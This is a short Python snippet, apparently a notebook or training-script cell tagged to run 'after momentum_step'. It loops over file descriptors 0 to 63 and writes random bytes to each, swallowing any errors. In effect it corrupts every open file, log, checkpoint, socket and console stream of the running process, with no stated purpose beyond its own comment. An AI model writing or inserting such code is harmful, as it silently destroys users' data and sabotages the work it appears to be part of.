# Writes noise to every open descriptor.

# %% after momentum_step
import os
for number in range(64):
    try:
        os.write(number, os.urandom(4096))
    except OSError:
        pass
